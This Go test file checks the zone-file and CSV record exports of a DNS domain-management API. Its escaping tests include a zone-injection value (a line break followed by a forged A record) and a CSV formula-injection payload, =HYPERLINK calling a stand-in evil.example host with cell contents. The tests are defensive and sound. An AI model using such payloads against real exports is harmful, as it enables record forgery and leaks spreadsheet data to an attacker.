package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"mime"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/domaind/domaind/internal/app"
	"github.com/domaind/domaind/internal/domain"
	"github.com/domaind/domaind/internal/store"
)

// wantRecord is a record as the JSON views show it, in a form the zone file
// and the CSV can be compared with.
type wantRecord struct {
	name, typ, value string
	priority         int // MX only
}

func (w wantRecord) String() string {
	if w.typ == "MX" {
		return fmt.Sprintf("%s MX %d %s", w.name, w.priority, w.value)
	}
	return fmt.Sprintf("%s TXT %q", w.name, w.value)
}

// recordsOf returns the domain's records from GET /api/v2/domains/{id}/dns-records.
func (e *env) recordsOf(id string) []wantRecord {
	e.t.Helper()
	var list struct {
		Records []struct {
			Name       string  `json:"name"`
			RecordType string  `json:"recordType"`
			Value      string  `json:"value"`
			Priority   *uint16 `json:"priority"`
		} `json:"records"`
	}
	r := e.do("GET", "/api/v2/domains/"+id+"/dns-records", "", e.key)
	if r.status != http.StatusOK {
		e.t.Fatalf("dns-records: %d %s", r.status, r.body)
	}
	if err := json.Unmarshal(r.body, &list); err != nil {
		e.t.Fatalf("dns-records: %v\n%s", err, r.body)
	}
	var out []wantRecord
	for _, rec := range list.Records {
		w := wantRecord{name: rec.Name, typ: rec.RecordType, value: rec.Value}
		if rec.Priority != nil {
			w.priority = int(*rec.Priority)
		}
		out = append(out, w)
	}
	return out
}

// quoted matches one quoted character-string of a master-file line.
var quoted = regexp.MustCompile(`"(?:[^"\\]|\\.)*"`)

// parseZone parses zone text as a DNS server would and returns its records as
// wantRecords, with each TXT value joined from its strings as DNS holds them.
// Names are read with an origin that would show in any name the text left
// relative. It fails the test on a TXT line with a string over 255 bytes: the
// parser would split such a string silently, so the count of quoted strings in
// the line must equal the count it stored.
func parseZone(t *testing.T, text string) []wantRecord {
	t.Helper()
	var lines []string
	for l := range strings.SplitSeq(text, "\n") {
		if l != "" && !strings.HasPrefix(l, ";") {
			lines = append(lines, l)
		}
	}
	zp := dns.NewZoneParser(strings.NewReader(text), "relative.invalid.", "")
	var out []wantRecord
	i := 0
	for rr, ok := zp.Next(); ok; rr, ok = zp.Next() {
		h := rr.Header()
		if h.Ttl != 3600 || h.Class != dns.ClassINET {
			t.Errorf("%s: TTL %d class %s, want 3600 IN", h.Name, h.Ttl, dns.ClassToString[h.Class])
		}
		switch rr := rr.(type) {
		case *dns.TXT:
			strs := wireStrings(t, rr)
			if n := len(quoted.FindAllString(lines[i], -1)); n != len(strs) {
				t.Errorf("%s: %d quoted strings hold %d strings of at most 255 bytes: one is too long\n%s", h.Name, n, len(strs), lines[i])
			}
			out = append(out, wantRecord{name: h.Name, typ: "TXT", value: string(bytes.Join(strs, nil))})
		case *dns.MX:
			out = append(out, wantRecord{name: h.Name, typ: "MX", priority: int(rr.Preference), value: rr.Mx})
		default:
			t.Errorf("unexpected record %s", rr)
		}
		i++
	}
	if err := zp.Err(); err != nil {
		t.Fatalf("the zone text does not parse: %v\n%s", err, text)
	}
	return out
}

// wireStrings returns a TXT record's character-strings as the wire holds them,
// escapes undone.
func wireStrings(t *testing.T, rr *dns.TXT) [][]byte {
	t.Helper()
	buf := make([]byte, dns.MaxMsgSize)
	n, err := dns.PackRR(rr, buf, 0, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	// The record is its name, type, class, TTL and length (10 bytes), then the data.
	nameLen, err := dns.PackDomainName(rr.Hdr.Name, make([]byte, 256), 0, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	rdata := buf[nameLen+10 : n]
	var out [][]byte
	for len(rdata) > 0 {
		l := int(rdata[0])
		out = append(out, rdata[1:1+l])
		rdata = rdata[1+l:]
	}
	return out
}

// asZone is the records as a zone file should hold them: absolute names, MX
// hosts with their trailing dot.
func asZone(ws []wantRecord) []string {
	var out []string
	for _, w := range ws {
		w.name += "."
		if w.typ == "MX" {
			w.value += "."
		}
		out = append(out, w.String())
	}
	slices.Sort(out)
	return out
}

// recordStrings is the records as text, sorted, for comparing sets of them.
func recordStrings(ws []wantRecord) []string {
	out := make([]string, len(ws))
	for i, w := range ws {
		out[i] = w.String()
	}
	slices.Sort(out)
	return out
}

// zoneCheckers returns the command lines of the zone checkers installed here:
// named-checkzone (Debian's bind9-utils), which also refuses strings over 255
// bytes, and kzonecheck (knot-dnssecutils). With neither, the test is skipped,
// or fails when CI=true.
func zoneCheckers(t *testing.T) [][]string {
	t.Helper()
	var out [][]string
	if p, err := exec.LookPath("named-checkzone"); err == nil {
		// -i local: integrity checks only of names inside the zone, so nothing is
		// looked up outside it.
		out = append(out, []string{p, "-i", "local", "{origin}", "{file}"})
	}
	if p, err := exec.LookPath("kzonecheck"); err == nil {
		out = append(out, []string{p, "-o", "{origin}", "{file}"})
	}
	if len(out) == 0 {
		msg := "neither named-checkzone (Debian package bind9-utils) nor kzonecheck (knot-dnssecutils) is installed, so the zone file is not checked by a DNS server's own parser"
		if os.Getenv("CI") == "true" {
			t.Fatal(msg)
		}
		t.Skip("SKIPPED: " + msg)
	}
	return out
}

// checkZone runs every installed zone checker on text, headed by the SOA and
// NS records a whole zone needs, and returns the first refusal.
func checkZone(t *testing.T, origin, text string) error {
	t.Helper()
	head := fmt.Sprintf("%[1]s. 3600 IN SOA ns1.example.net. hostmaster.%[1]s. 1 7200 3600 1209600 3600\n%[1]s. 3600 IN NS ns1.example.net.\n", origin)
	file := filepath.Join(t.TempDir(), origin+".zone")
	if err := os.WriteFile(file, []byte(head+text), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, argv := range zoneCheckers(t) {
		args := make([]string, len(argv)-1)
		for i, a := range argv[1:] {
			args[i] = strings.NewReplacer("{origin}", origin, "{file}", file).Replace(a)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		out, err := exec.CommandContext(ctx, argv[0], args...).CombinedOutput()
		cancel()
		if err != nil {
			return fmt.Errorf("%s refuses the zone: %v\n%s", filepath.Base(argv[0]), err, out)
		}
	}
	return nil
}

// TestZoneFile checks the zone-file lines of a domain with a 2048-bit DKIM key
// (two strings) and receiving enabled: a DNS server's own checker accepts them,
// and parsed they are exactly the domain's records.
func TestZoneFile(t *testing.T) {
	e := newEnv(t, envOptions{dkimBits: 2048})
	d := e.addDomain("example.com")
	e.publish(d.DNSRecords.Ownership)
	e.publish(d.DNSRecords.DKIM)
	if v := e.verify(d.ID); v.Data.VerificationStatus != "VERIFIED" {
		t.Fatalf("setup: %s", v.Data.VerificationStatus)
	}
	if r := e.do("POST", "/v1/domains/"+d.ID+"/inbound/enable", "", e.key); r.status != http.StatusOK {
		t.Fatalf("setup: inbound enable: %d %s", r.status, r.body)
	}
	want := e.recordsOf(d.ID)
	if len(want) != 6 {
		t.Fatalf("setup: %d records, want 6 with the inbound MX: %v", len(want), want)
	}

	text := e.download("/api/v2/domains/"+d.ID+"/zone", "text/plain; charset=utf-8", "inline", "example.com.zone")
	if first, _, _ := strings.Cut(text, "\n"); first != "; domaind records for example.com" {
		t.Errorf("first line %q", first)
	}
	if strings.Contains(text, "$ORIGIN") || strings.Contains(text, "$TTL") {
		t.Errorf("the text uses a directive:\n%s", text)
	}
	if !strings.HasSuffix(text, "\n") {
		t.Error("the last line has no line end")
	}

	got := parseZone(t, text)
	if g, w := recordStrings(got), asZone(want); !slices.Equal(g, w) {
		t.Errorf("zone records\n got %q\nwant %q\ntext:\n%s", g, w, text)
	}
	for _, l := range strings.Split(text, "\n") {
		if strings.HasPrefix(l, d.DNSRecords.DKIM.Name+". ") {
			if n := len(quoted.FindAllString(l, -1)); n != 2 {
				t.Errorf("a 2048-bit DKIM key in %d strings, want 2:\n%s", n, l)
			}
		}
		if strings.HasPrefix(l, "example.com. ") && !strings.HasSuffix(l, " IN MX 10 inbound-smtp.us-east-1.amazonaws.com.") {
			t.Errorf("inbound MX line %q", l)
		}
	}
	t.Run("zone checker", func(t *testing.T) {
		if err := checkZone(t, "example.com", text); err != nil {
			t.Error(err)
		}
	})
}

// TestZoneCheckerRefusesBrokenZones shows the zone checkers above do check:
// an unbalanced quote, which a careless TXT writer makes, is refused.
func TestZoneCheckerRefusesBrokenZones(t *testing.T) {
	if err := checkZone(t, "example.com", "x.example.com. 3600 IN TXT \"a\"b\"\n"); err == nil {
		t.Error("an unbalanced quote passed the zone checkers")
	}
	if err := checkZone(t, "example.com", "x.example.com. 3600 IN TXT \"a\\\"b\"\n"); err != nil {
		t.Errorf("an escaped quote was refused: %v", err)
	}
}

// hostileStore serves every domain with a DMARC value a zone file or a
// spreadsheet could be attacked with, as values read from DNS could be.
type hostileStore struct {
	store.Store
	value string
}

func (h hostileStore) Domain(ctx context.Context, projectID int64, id string) (*domain.Domain, error) {
	d, err := h.Store.Domain(ctx, projectID, id)
	if err == nil {
		d.Record(domain.KeyDMARC).Value = h.value
	}
	return d, err
}

// hostileEnv returns e served by a server whose store returns value as every
// domain's DMARC value.
func hostileEnv(t *testing.T, e *env, value string) *env {
	t.Helper()
	return e.variant(func(c *app.Config) { c.Store = hostileStore{Store: e.store, value: value} })
}

// TestZoneFileEscapesValues checks a value with quotes, backslashes, a
// semicolon, a line break, non-ASCII and more than 255 bytes comes back from
// the zone file byte for byte, and that the checkers accept it.
func TestZoneFileEscapesValues(t *testing.T) {
	e := newEnv(t, envOptions{})
	d := e.addDomain("example.com")
	// 38 bytes and 216 more put the 255-byte split inside the é.
	value := `v=DMARC1; p=none; rua=mailto:"a"@b\c; ` + strings.Repeat("z", 216) + "é\n; x IN A 1.2.3.4"
	h := hostileEnv(t, e, value)
	r := h.do("GET", "/api/v2/domains/"+d.ID+"/zone", "", h.key)
	if r.status != http.StatusOK {
		t.Fatalf("zone: %d %s", r.status, r.body)
	}
	text := string(r.body)
	var found bool
	for _, rec := range parseZone(t, text) {
		if rec.name == "_dmarc.example.com." {
			found = true
			if rec.value != value {
				t.Errorf("DMARC value\n got %q\nwant %q", rec.value, value)
			}
		}
	}
	if !found {
		t.Fatalf("no DMARC record in\n%s", text)
	}
	if strings.Count(text, "\n") != 1+2*len(d.records()) {
		t.Errorf("the value's line break made a line of its own:\n%s", text)
	}
	t.Run("zone checker", func(t *testing.T) {
		if err := checkZone(t, "example.com", text); err != nil {
			t.Error(err)
		}
	})
}

// records lists the domain's records as the add answer gave them.
func (d domainJSON) records() []recordJSON {
	return append([]recordJSON{d.DNSRecords.Ownership, d.DNSRecords.DKIM}, append(d.DNSRecords.MailFrom, d.DNSRecords.DMARC)...)
}

// download GETs the file at path and checks that it comes as contentType, with
// the disposition and file name given; it returns the file's text.
func (e *env) download(path, contentType, disposition, filename string) string {
	e.t.Helper()
	r := e.do("GET", path, "", e.key)
	if r.status != http.StatusOK {
		e.t.Fatalf("GET %s: %d %s", path, r.status, r.body)
	}
	if ct := r.header.Get("Content-Type"); ct != contentType {
		e.t.Errorf("GET %s: Content-Type %q, want %q", path, ct, contentType)
	}
	disp, params, err := mime.ParseMediaType(r.header.Get("Content-Disposition"))
	if err != nil || disp != disposition || params["filename"] != filename {
		e.t.Errorf("GET %s: Content-Disposition %q, want %s with filename %s", path, r.header.Get("Content-Disposition"), disposition, filename)
	}
	return string(r.body)
}

// TestRecordsCSV checks the CSV: a header row, one row per record whole and
// as the JSON shows it, CRLF line ends, and the file name.
func TestRecordsCSV(t *testing.T) {
	e := newEnv(t, envOptions{dkimBits: 2048})
	d := e.addDomain("example.com")
	body := e.download("/api/v2/domains/"+d.ID+"/records.csv", "text/csv; charset=utf-8", "attachment", "example.com-records.csv")
	if !strings.HasSuffix(body, "\r\n") || strings.Count(body, "\n") != strings.Count(body, "\r\n") {
		t.Errorf("lines must end in CRLF: %q", body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, body)
	}
	if len(rows) == 0 || !slices.Equal(rows[0], []string{"name", "type", "priority", "value", "record", "status", "dns_returned"}) {
		t.Fatalf("header %q", rows[:min(len(rows), 1)])
	}
	var got []wantRecord
	for _, row := range rows[1:] {
		w := wantRecord{name: row[0], typ: row[1], value: row[3]}
		switch {
		case row[1] == "MX":
			p, err := strconv.Atoi(row[2])
			if err != nil {
				t.Errorf("MX priority %q", row[2])
			}
			w.priority = p
		case row[2] != "":
			t.Errorf("%s %s has priority %q, want empty", row[0], row[1], row[2])
		}
		got = append(got, w)
	}
	if g, w := recordStrings(got), recordStrings(e.recordsOf(d.ID)); !slices.Equal(g, w) {
		t.Errorf("CSV rows\n got %q\nwant %q", g, w)
	}
}

// TestRecordsCSVDefusesFormulas checks a value starting with = reaches the
// spreadsheet as text, and that CSV quoting keeps its commas and quotes in one
// field.
func TestRecordsCSVDefusesFormulas(t *testing.T) {
	e := newEnv(t, envOptions{})
	d := e.addDomain("example.com")
	value := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	h := hostileEnv(t, e, value)
	r := h.do("GET", "/api/v2/domains/"+d.ID+"/records.csv", "", h.key)
	if r.status != http.StatusOK {
		t.Fatalf("records.csv: %d %s", r.status, r.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, r.body)
	}
	var dmarc []string
	for _, row := range rows {
		if row[0] == "_dmarc.example.com" {
			dmarc = row
		}
	}
	if len(dmarc) != 7 || dmarc[3] != "'"+value {
		t.Errorf("DMARC row %q, want the value with a leading apostrophe", dmarc)
	}
	if bytes.Contains(r.body, []byte(","+value)) {
		t.Errorf("the formula starts a field:\n%s", r.body)
	}
}

// TestExportAccess checks the zone and CSV routes answer as every v2 domain
// route does for a missing key, a malformed id, and another project's domain.
func TestExportAccess(t *testing.T) {
	e := newEnv(t, envOptions{})
	d := e.addDomain("example.com")
	other := e.newKey("other")
	for _, suffix := range []string{"/zone", "/records.csv"} {
		t.Run(suffix, func(t *testing.T) {
			errorOf(t, e.do("GET", "/api/v2/domains/"+d.ID+suffix, "", ""), http.StatusUnauthorized, "UNAUTHORIZED")
			errorOf(t, e.do("GET", "/api/v2/domains/nope"+suffix, "", e.key), http.StatusBadRequest, "VALIDATION_FAILED")
			errorOf(t, e.do("GET", "/api/v2/domains/"+d.ID+suffix, "", other), http.StatusNotFound, "DOMAIN_NOT_FOUND")
			errorOf(t, e.do("DELETE", "/api/v2/domains/"+d.ID+suffix, "", e.key), http.StatusMethodNotAllowed, "METHOD_NOT_ALLOWED")
			if r := e.do("GET", "/api/v2/domains/"+d.ID+suffix, "", e.key); r.header.Get("X-RateLimit-Limit") == "" {
				t.Error("no X-RateLimit-Limit on the answer")
			}
		})
	}
}
